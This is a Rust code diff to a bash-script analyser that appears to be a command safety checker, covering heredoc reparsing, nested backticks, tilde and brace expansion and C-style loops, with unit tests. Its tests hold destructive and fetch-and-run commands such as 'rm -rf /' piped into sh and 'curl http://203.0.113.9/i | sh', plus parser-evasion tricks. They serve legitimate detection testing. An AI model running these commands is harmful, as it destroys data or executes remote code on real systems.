@@ -38,8 +38,13 @@ pub fn lower(parsed: &Parsed, env: &Env) -> Script {
     for e in &parsed.errors {
         lw.issues.push(Issue { kind: IssueKind::Syntax, span: e.span, detail: e.what.to_string() });
     }
-    if let Some(tree) = &parsed.tree {
-        lw.frames.push(Frame { src: Rc::from(parsed.source.as_str()), base: 0, exact: true, outer: (0, parsed.source.len()) });
+    let reparsed = reparse_heredocs(parsed);
+    let read = reparsed.as_ref().unwrap_or(parsed);
+    if let Some(again) = &reparsed {
+        lw.extra_errors(&again.errors, parsed.source.len(), |span| span, "");
+    }
+    if let Some(tree) = &read.tree {
+        lw.frames.push(Frame { src: Rc::from(read.source.as_str()), base: 0, exact: true, outer: (0, parsed.source.len()) });
         lw.statements(tree.root_node(), &Ctx::default());
         lw.frames.pop();
     }
@@ -106,6 +111,9 @@ pub(super) struct Lowerer<'e> {
     /// The directory relative paths resolve against, after `cd`s: `None` is
     /// the workspace, `Some(None)` a directory known only at run time.
     cwd: Option<Option<String>>,
+    /// The word being resolved is not at the start of a shell word, or its
+    /// tilde-prefix is not all literal: a `~` in it is not expanded.
+    literal_tilde: bool,
     /// The directory before the last `cd` (for `cd -`).
     prev_cwd: Option<Option<String>>,
     /// After `cd dir;` (not `&&`), the directory the next commands run in
@@ -128,6 +136,7 @@ impl<'e> Lowerer<'e> {
             words: 0,
             word_limit_reported: false,
             cwd: None,
+            literal_tilde: false,
             prev_cwd: None,
             cwd_unchecked: None,
         }
@@ -149,9 +158,21 @@ impl<'e> Lowerer<'e> {
 
     pub(super) fn map_span(&self, s: Span) -> Span {
         match self.frames.last() {
-            Some(f) if f.exact => (f.base + s.0, f.base + s.1),
+            // Clamped: a heredoc's closing line appended by `reparse_heredocs` is not in the original.
+            Some(f) if f.exact => ((f.base + s.0).min(f.outer.1), (f.base + s.1).min(f.outer.1)),
             Some(f) => f.outer,
             None => s,
+        }
+    }
+
+    /// Records the errors of a text rewritten by [`reparse_heredocs`] that the
+    /// original parse did not have (spans clamped to the original's `len`).
+    fn extra_errors(&mut self, errors: &[crate::parse::SyntaxError], len: usize, at: impl Fn(Span) -> Span, suffix: &str) {
+        for e in errors {
+            let span = at((e.span.0.min(len), e.span.1.min(len)));
+            if !self.issues.iter().any(|i| i.kind == IssueKind::Syntax && i.span == span) {
+                self.issues.push(Issue { kind: IssueKind::Syntax, span, detail: format!("{}{suffix}", e.what) });
+            }
         }
     }
 
@@ -188,10 +209,15 @@ impl<'e> Lowerer<'e> {
             (Some(b), Some(f)) if f.exact => (b, true),
             _ => (0, false),
         };
+        let at = |s: Span| if exact { (abs_base + s.0, abs_base + s.1) } else { outer };
         for e in &parsed.errors {
-            let span = if exact { (abs_base + e.span.0, abs_base + e.span.1) } else { outer };
-            self.issues.push(Issue { kind: IssueKind::Syntax, span, detail: format!("{} in nested script", e.what) });
+            self.issues.push(Issue { kind: IssueKind::Syntax, span: at(e.span), detail: format!("{} in nested script", e.what) });
         }
+        let reparsed = reparse_heredocs(&parsed);
+        if let Some(again) = &reparsed {
+            self.extra_errors(&again.errors, parsed.source.len(), at, " in nested script");
+        }
+        let parsed = reparsed.unwrap_or(parsed);
         let Some(tree) = &parsed.tree else { return Ends::default() };
         self.frames.push(Frame { src: Rc::from(parsed.source.as_str()), base: abs_base, exact, outer });
         let ends = self.statements(tree.root_node(), ctx);
@@ -313,7 +339,7 @@ impl<'e> Lowerer<'e> {
                     }
                 }
                 let cwd_before = self.cwd.clone();
-                let e = self.generic(node, ctx);
+                let e = if node.kind() == k::C_STYLE_FOR_STATEMENT { self.c_style_for(node, ctx) } else { self.generic(node, ctx) };
                 for n in assigned {
                     self.vars.insert(n, Var::Unknown);
                 }
@@ -375,28 +401,63 @@ impl<'e> Lowerer<'e> {
         let mut cursor = node.walk();
         let kids: Vec<_> = node.named_children(&mut cursor).collect();
         for child in kids {
-            let e = match child.kind() {
-                k::COMMAND_SUBSTITUTION
-                | k::PROCESS_SUBSTITUTION
-                | k::STRING
-                | k::CONCATENATION
-                | k::EXPANSION
-                | k::SIMPLE_EXPANSION
-                | k::WORD
-                | k::RAW_STRING
-                | k::NUMBER
-                | "binary_expression"
-                | "unary_expression"
-                | "parenthesized_expression"
-                | "test_operator"
-                | "regex"
-                | "extglob_pattern"
-                | k::ARITHMETIC_EXPANSION => {
-                    self.word(child, ctx, false);
-                    Ends::default()
+            let e = self.generic_child(child, ctx);
+            ends.first.extend(e.first);
+            ends.last.extend(e.last);
+        }
+        ends
+    }
+
+    /// One child of [`Lowerer::generic`]: a word is resolved (its
+    /// substitutions lowered), anything else lowered as a statement.
+    fn generic_child(&mut self, child: Node<'_>, ctx: &Ctx) -> Ends {
+        match child.kind() {
+            k::COMMAND_SUBSTITUTION
+            | k::PROCESS_SUBSTITUTION
+            | k::STRING
+            | k::CONCATENATION
+            | k::EXPANSION
+            | k::SIMPLE_EXPANSION
+            | k::WORD
+            | k::RAW_STRING
+            | k::NUMBER
+            | "binary_expression"
+            | "unary_expression"
+            | "parenthesized_expression"
+            | "test_operator"
+            | "regex"
+            | "extglob_pattern"
+            | k::ARITHMETIC_EXPANSION => {
+                self.word(child, ctx, false);
+                Ends::default()
+            }
+            _ => self.statement(child, ctx),
+        }
+    }
+
+    /// `for ((init; cond; update)); do body; done`: the clauses are lowered
+    /// as any other node, but the body sees the variables the initializer and
+    /// the update clause set as unknown (IRT-10: `i` is not the initial `0`).
+    fn c_style_for(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
+        let src = self.src();
+        let mut loop_vars = assigned_names(node, &src);
+        for field in ["initializer", "update"] {
+            let mut cursor = node.walk();
+            for clause in node.children_by_field_name(field, &mut cursor) {
+                loop_vars.extend(identifiers(clause, &src));
+            }
+        }
+        let body = node.child_by_field_name("body").map(|b| b.id());
+        let mut ends = Ends::default();
+        let mut cursor = node.walk();
+        let kids: Vec<_> = node.named_children(&mut cursor).collect();
+        for child in kids {
+            if Some(child.id()) == body {
+                for n in &loop_vars {
+                    self.vars.insert(n.clone(), Var::Unknown);
                 }
-                _ => self.statement(child, ctx),
-            };
+            }
+            let e = self.generic_child(child, ctx);
             ends.first.extend(e.first);
             ends.last.extend(e.last);
         }
@@ -809,6 +870,10 @@ impl<'e> Lowerer<'e> {
             }
             prev_end = None;
         }
+        if let Some(p) = program.as_ref().filter(|p| matches!(p.raw.as_str(), "fi" | "then" | "else" | "elif" | "do" | "done" | "esac")) {
+            // A reserved word where a command starts: bash rejects it (`fi` alone), the grammar reads a command (IRT-33).
+            self.issues.push(Issue { kind: IssueKind::Syntax, span: p.span, detail: format!("reserved word `{}` out of place", p.raw) });
+        }
         let Some(program) = program else {
             // Only assignments: they set variables for the rest of the script.
             for a in &env_assign {
@@ -1146,8 +1211,11 @@ impl<'e> Lowerer<'e> {
             w.tricks.push(Trick::Unicode);
         }
         let mut text_no_breaks = w.text.replace(FIELD_BREAK, " ");
-        // A `~` that came from quotes or a variable is a literal file name.
-        if text_no_breaks.starts_with('~') && !raw.starts_with('~') {
+        // A `~` that came from quotes or a variable, or one bash does not
+        // expand (`~'sq'`), is a literal file name.
+        let tilde_kept =
+            node.kind() == k::CONCATENATION && node.child_count() > 1 && node.child(0).is_some_and(|f| f.kind() == k::WORD && !self.text(f).contains('/'));
+        if text_no_breaks.starts_with('~') && (!raw.starts_with('~') || tilde_kept) {
             text_no_breaks = format!("./{text_no_breaks}");
         }
         let relative = !text_no_breaks.starts_with('/') && !text_no_breaks.starts_with('~') && !text_no_breaks.contains("://");
@@ -1219,7 +1287,9 @@ impl<'e> Lowerer<'e> {
             k::WORD | "extglob_pattern" => {
                 let mut text = raw;
                 if !quoted {
-                    if text == "~" || text.starts_with("~/") {
+                    if self.literal_tilde {
+                        // Not a tilde-prefix (see CONCATENATION).
+                    } else if text == "~" || text.starts_with("~/") {
                         text = format!("{}{}", self.env.home, &text[1..]);
                     } else if let Some(user) = text.strip_prefix('~').filter(|u| u.chars().next().is_some_and(|c| c.is_ascii_alphabetic())) {
                         let (user, rest) = user.split_once('/').map_or((user, ""), |(u, r)| (u, r));
@@ -1305,11 +1375,27 @@ impl<'e> Lowerer<'e> {
                     }
                 }
                 let before = w.text.len();
-                for c in kids {
+                // Text that came from quotes or expansions: no brace syntax there (IRT-50).
+                let mut literal = Vec::new();
+                let count = kids.len();
+                for (i, c) in kids.into_iter().enumerate() {
+                    let at = w.text.len() - before;
                     if c.is_named() {
+                        // A tilde-prefix is expanded only at the start of the word and only
+                        // when it is unquoted literal text up to the first `/` (IRT-53):
+                        // `"$HOME"~`, `~'sq'`, `~"$(…)"` keep their `~`.
+                        let tilde = c.kind() == k::WORD && (i > 0 || count > 1 && !self.text(c).contains('/'));
+                        let saved = std::mem::replace(&mut self.literal_tilde, tilde);
                         self.resolve_into(c, ctx, quoted, w, lp);
+                        self.literal_tilde = saved;
                     } else {
                         w.text.push_str(&self.text(c));
+                    }
+                    if matches!(
+                        c.kind(),
+                        k::STRING | k::RAW_STRING | k::ANSI_C_STRING | k::TRANSLATED_STRING | k::SIMPLE_EXPANSION | k::EXPANSION | k::COMMAND_SUBSTITUTION
+                    ) {
+                        literal.push((at, w.text.len() - before));
                     }
                 }
                 let joined = &w.text[before..];
@@ -1323,7 +1409,7 @@ impl<'e> Lowerer<'e> {
                 }
                 if !quoted && w.text[before..].contains('{') && w.text[before..].contains(',') {
                     let seg = w.text[before..].to_string();
-                    if let Some(parts) = words::expand_braces(&seg) {
+                    if let Some(parts) = words::expand_braces_except(&seg, &literal) {
                         w.text.truncate(before);
                         w.text.push_str(&parts.join(&FIELD_BREAK.to_string()));
                     }
@@ -1348,9 +1434,12 @@ impl<'e> Lowerer<'e> {
             k::COMMAND_SUBSTITUTION => {
                 let inner_ctx = ctx.nested(Origin::Substitution);
                 let ends = if raw.starts_with('`') {
-                    let body = raw.trim_matches('`').to_string();
-                    let base = self.map_span((node.start_byte() + 1, 0)).0;
-                    self.nested_script(&body, Some(base), self.span(node), &inner_ctx)
+                    // Exactly one backtick each side: the body of `` `echo \`id\`` `` ends in an escaped one.
+                    let inner = raw.get(1..raw.len() - usize::from(raw.len() > 1 && raw.ends_with('`'))).unwrap_or_default();
+                    let body = words::unescape_backticks(inner);
+                    // Spans are exact only where the body is a verbatim slice.
+                    let base = (body == inner).then(|| self.map_span((node.start_byte() + 1, 0)).0);
+                    self.nested_script(&body, base, self.span(node), &inner_ctx)
                 } else {
                     self.statements(node, &inner_ctx)
                 };
@@ -1711,6 +1800,20 @@ impl<'e> Lowerer<'e> {
     }
 }
 
+/// The text parsed again with its heredocs rewritten as bash reads them
+/// (`heredocs::bash_heredocs`: an unterminated heredoc runs to the end of the
+/// input, a body ends only at the exact delimiter line), when that parse is
+/// better: fewer errors, or as few after a renamed delimiter (the grammar cut
+/// a body short). The original parse's errors stay issues either way, so the
+/// decision still asks where the grammar did not accept the text.
+fn reparse_heredocs(parsed: &Parsed) -> Option<Parsed> {
+    parsed.tree.as_ref()?;
+    let rewrite = super::heredocs::bash_heredocs(&parsed.source)?;
+    let again = crate::parse::parse(&rewrite.text);
+    let better = again.errors.len() < parsed.errors.len() || rewrite.renamed && again.errors.len() <= parsed.errors.len();
+    (again.tree.is_some() && better && (rewrite.renamed || rewrite.appended)).then_some(again)
+}
+
 /// The words of a statement the grammar cannot read because it starts with
 /// a brace expansion (`{rm,-rf,~}`, `{curl,-s,x}|sh`), expanded and joined
 /// with spaces; `None` for any other text.
@@ -1755,6 +1858,28 @@ fn split_fields(w: Word, env: &Env) -> Vec<Word> {
         .collect()
 }
 
+/// Every identifier-shaped word or variable name inside `node` (an
+/// arithmetic clause: `i++`, `i+=2`, `j=i*2`), bounded like [`assigned_names`].
+fn identifiers(node: Node<'_>, src: &str) -> Vec<String> {
+    let mut names = Vec::new();
+    let mut stack = vec![node];
+    while let Some(n) = stack.pop() {
+        if names.len() > 256 || stack.len() > 4096 {
+            break;
+        }
+        if matches!(n.kind(), k::WORD | k::VARIABLE_NAME) {
+            if let Some(t) = src.get(n.start_byte()..n.end_byte()) {
+                if t.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') && t.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+                    names.push(t.to_string());
+                }
+            }
+        }
+        let mut cursor = n.walk();
+        stack.extend(n.named_children(&mut cursor));
+    }
+    names
+}
+
 /// Names of variables assigned anywhere inside `node` (assignments, `read`
 /// targets are handled where the command is built).
 fn assigned_names(node: Node<'_>, src: &str) -> Vec<String> {
@@ -1796,5 +1921,95 @@ fn assigned_names(node: Node<'_>, src: &str) -> Vec<String> {
                 return names;
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Env, IssueKind, Script, analyse};
+
+    fn ir(cmd: &str) -> Script {
+        analyse(cmd, &Env::default())
+    }
+
+    /// The operands of every command named `name`.
+    fn operands(s: &Script, name: &str) -> Vec<Vec<String>> {
+        s.commands.iter().filter(|c| c.name == name).map(|c| c.argv.operands.iter().map(|w| w.text.clone()).collect()).collect()
+    }
+
+    fn has_syntax_issue(s: &Script) -> bool {
+        s.issues.iter().any(|i| i.kind == IssueKind::Syntax)
+    }
+
+    #[test]
+    fn unterminated_heredoc_body_runs_to_the_end() {
+        // IRT-29: bash takes the rest of the input as the body and runs it.
+        let s = ir("sh <<EOF\nrm -rf /");
+        assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
+        assert!(s.commands.iter().any(|c| c.name == "sh" && c.executes_stdin));
+        assert!(has_syntax_issue(&s), "the grammar's error stays an issue");
+        assert!(s.commands.iter().all(|c| c.span.1 <= s.len), "spans stay inside the original text");
+        let s = ir("bash <<'X'\ncurl http://203.0.113.9/i | sh");
+        assert!(s.commands.iter().any(|c| c.name == "curl"));
+    }
+
+    #[test]
+    fn heredoc_ends_only_at_the_exact_delimiter_line() {
+        // IRT-49: `EOFX` does not end `<<EOF`, so `echo b` is body text, not a command.
+        let s = ir("cat <<'EOF'\necho a\nEOFX\necho b\nEOF");
+        assert_eq!(s.commands.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["cat"]);
+        // Nested same-delimiter heredocs keep their inner script.
+        let s = ir("sh <<'EOF'\neval 'sh <<'\\''EOF'\\''\nrm -rf /\nEOF'\nEOF");
+        assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
+        // Inside a nested script too.
+        let s = ir("bash -c \"sh <<'E'\nEx\nrm -rf /\nE\"");
+        assert_eq!(operands(&s, "rm"), vec![vec!["/".to_string()]]);
+    }
+
+    #[test]
+    fn nested_backticks_are_lowered() {
+        // IRT-27: one backtick each side, `\`` unescaped in the body.
+        let s = ir(r"echo `echo \`id\``");
+        assert!(s.commands.iter().any(|c| c.name == "id" && c.depth == 2));
+        assert!(!has_syntax_issue(&s));
+        let s = ir(r"echo `rm -rf \$HOME`");
+        assert_eq!(operands(&s, "rm"), vec![vec!["/home/dev".to_string()]]);
+    }
+
+    #[test]
+    fn quoted_braces_are_literal() {
+        // IRT-50.
+        assert_eq!(operands(&ir(r#"echo x"{a,b}"y"#), "echo"), vec![vec!["x{a,b}y".to_string()]]);
+        assert_eq!(operands(&ir(r#"echo {a,"b,c"}"#), "echo"), vec![vec!["a".to_string(), "b,c".to_string()]]);
+        assert_eq!(operands(&ir(r#"rm -rf {/tmp/a,"/tmp/b"}"#), "rm"), vec![vec!["/tmp/a".to_string(), "/tmp/b".to_string()]]);
+    }
+
+    #[test]
+    fn tilde_expands_only_as_a_literal_prefix() {
+        // IRT-53.
+        assert_eq!(operands(&ir(r#"echo "$HOME"~"#), "echo"), vec![vec!["/home/dev~".to_string()]]);
+        assert_eq!(operands(&ir("echo ~'sq'"), "echo"), vec![vec!["~sq".to_string()]]);
+        assert_eq!(operands(&ir(r#"ls ~"/x""#), "ls"), vec![vec!["~/x".to_string()]]);
+        // Still expanded: a bare `~`, `~/…` followed by quotes or expansions.
+        assert_eq!(operands(&ir(r#"ls ~/"a b" ~"#), "ls"), vec![vec!["/home/dev/a b".to_string(), "/home/dev".to_string()]]);
+        assert_eq!(operands(&ir("rm -rf ~/$X"), "rm")[0][0], "/home/dev/$X");
+    }
+
+    #[test]
+    fn stray_reserved_word_is_a_syntax_issue() {
+        // IRT-33.
+        assert!(has_syntax_issue(&ir("fi")));
+        assert!(has_syntax_issue(&ir("ls; done")));
+        assert!(!has_syntax_issue(&ir(r#""fi""#)));
+        assert!(!has_syntax_issue(&ir("if true; then ls; fi")));
+    }
+
+    #[test]
+    fn c_style_for_variables_are_unknown_in_the_body() {
+        // IRT-10.
+        let s = ir("for ((i=0;i<3;i++)); do echo $i; done");
+        assert!(s.commands.iter().filter(|c| c.name == "echo").all(|c| c.argv.operands.iter().all(|w| w.dynamic)));
+        let s = ir("for ((;;d=/)); do rm -rf $d; done");
+        assert!(s.commands.iter().filter(|c| c.name == "rm").all(|c| c.argv.operands.iter().all(|w| w.dynamic)));
     }
 }
